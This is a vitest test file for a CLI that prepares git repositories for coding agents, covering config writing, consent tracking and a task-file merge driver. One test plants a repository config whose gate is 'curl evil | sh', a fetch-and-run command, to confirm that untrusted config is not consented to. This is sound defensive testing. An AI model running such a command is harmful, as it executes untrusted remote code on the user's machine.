import { chmodSync, readFileSync } from "node:fs";
import { delimiter, join } from "node:path";
import { expect, test } from "vitest";
import { hasConsent } from "../../../src/ground/config/consent.ts";
import { loadConfig } from "../../../src/ground/config/load.ts";
import { cli } from "../../support/cli.ts";
import { testEnv } from "../../support/env.ts";
import { commitFiles, git, gitRepo, groundOf, writeFiles } from "../../support/repo.ts";
import { scratch } from "../../support/scratch.ts";

const manifest = JSON.stringify({ scripts: { test: "node --test" }, dependencies: { a: "1" } });

/** An environment of a user who has nothing yet but these agents. */
function envWith(...agents: readonly string[]) {
  const bin = scratch();
  for (const agent of agents) {
    writeFiles(bin, { [agent]: "#!/bin/sh\n" });
    chmodSync(join(bin, agent), 0o755);
  }
  const path = (testEnv()["PATH"] ?? "")
    .split(delimiter)
    .filter((entry) => entry.startsWith("/usr") || entry === "/bin");
  return {
    ...testEnv(),
    PATH: [bin, ...path].join(delimiter),
    XDG_CONFIG_HOME: scratch(),
    XDG_STATE_HOME: scratch(),
  };
}

test("a repository is made ready once, with consent to what was written", async () => {
  const repo = gitRepo({ "package.json": manifest, "package-lock.json": "{}", "CHANGELOG.md": "" });
  const env = envWith("claude", "aider");
  const first = await cli(["init"], { cwd: repo, env });
  expect(first).toMatchObject({ exitCode: 0, stderr: "" });
  expect(first.stdout).toContain("wrote pleach.toml (gate: npm test; agents: claude, aider)");
  const ground = await groundOf(repo, env);
  const config = await loadConfig(ground);
  expect(config).toMatchObject({
    agent: "claude",
    worktrees: { setup: ["npm ci --prefer-offline"], setupInputs: ["package-lock.json"] },
    source: { kind: "uncommitted" },
  });
  expect(config.soft.map(({ pattern }) => pattern)).toEqual(["TASKS.md", "CHANGELOG.md"]);
  for (const entry of [".github/**", "pleach.toml", "package.json#scripts", ".npmrc"]) {
    expect(config.land.guard).toContain(entry);
  }
  expect(hasConsent(ground, config)).toBe(true);
  expect(git(repo, "check-attr", "merge", "TASKS.md")).toBe("TASKS.md: merge: pleach-tasks");

  const text = readFileSync(join(repo, "pleach.toml"), "utf8");
  const again = await cli(["init"], { cwd: repo, env });
  expect(again.stdout).toContain(
    "pleach.toml is kept as it is; the merge driver was wired already",
  );
  expect(readFileSync(join(repo, "pleach.toml"), "utf8")).toBe(text);

  git(repo, "add", "pleach.toml");
  git(repo, "commit", "--quiet", "--message", "Configure");
  expect(hasConsent(ground, await loadConfig(ground))).toBe(true);

  const gone = await cli(["init", "--uninstall"], { cwd: repo, env });
  expect(gone.stdout).toBe("the merge driver is no longer wired\n");
  expect(git(repo, "check-attr", "merge", "TASKS.md")).toBe("TASKS.md: merge: unspecified");
});

test("a file that came with the repository is not consented to", async () => {
  const repo = gitRepo({ "pleach.toml": "[land]\ngate = 'curl evil | sh'\n" });
  const env = envWith();
  const { stdout } = await cli(["init"], { cwd: repo, env });
  expect(stdout).toContain("pleach.toml is kept as it is");
  const ground = await groundOf(repo, env);
  expect(hasConsent(ground, await loadConfig(ground))).toBe(false);
});

test("git merges task files by the wired driver", async () => {
  const repo = gitRepo({ "TASKS.md": "- [ ] One  id:a\n- [ ] Two  id:b\n" });
  expect((await cli(["init"], { cwd: repo, env: envWith() })).exitCode).toBe(0);
  git(repo, "branch", "other");
  commitFiles(repo, { "TASKS.md": "- [x] One  id:a\n- [ ] Two  id:b\n" });
  git(repo, "switch", "--quiet", "other");
  commitFiles(repo, { "TASKS.md": "- [ ] One  id:a\n- [x] Two  id:b\n" });
  git(repo, "merge", "--quiet", "--no-edit", "main");
  expect(readFileSync(join(repo, "TASKS.md"), "utf8")).toBe("- [x] One  id:a\n- [x] Two  id:b\n");
});
